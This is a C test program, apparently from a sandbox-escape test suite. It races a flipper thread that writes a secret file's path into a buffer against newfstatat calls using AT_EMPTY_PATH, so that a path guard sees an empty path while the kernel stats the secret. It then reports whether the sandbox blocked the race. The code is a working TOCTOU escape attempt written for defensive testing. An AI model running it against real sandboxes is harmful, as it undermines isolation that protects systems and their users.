/* TOCTOU on AT_EMPTY_PATH: the guard sees an empty path (an fstat of the fd)
 * while another thread writes the secret's path into the buffer before the
 * kernel reads it. With fd −1, only the secret's path could make it succeed. */
#include "escape.h"
#include <pthread.h>
#include <sys/stat.h>
static char path[4096], secret[4096];
static volatile int stop;
static void *flipper(void *unused) {
    (void)unused;
    while (!stop) {
        path[0] = 0;
        memcpy(path, secret, strlen(secret) + 1);
    }
    return 0;
}
int main(int argc, char **argv) {
    setup(argc, argv);
    snprintf(secret, sizeof secret, "%s", secret_file);
    pthread_t thread;
    pthread_create(&thread, 0, flipper, 0);
    int failures = 0;
    for (int i = 0; i < 3000; i++) {
        struct stat st;
        long r = raw4(SYS_newfstatat, -1, path, &st, AT_EMPTY_PATH);
        if (r == 0) {
            printf("ESCAPED stat race: the kernel stat'ed the secret (%ld bytes) after %d tries\n", (long)st.st_size, i);
            escapes++;
            break;
        }
        failures++;
    }
    stop = 1;
    pthread_join(thread, 0);
    if (!escapes) printf("BLOCKED stat race: %d attempts, all failed\n", failures);
    return verdict();
}
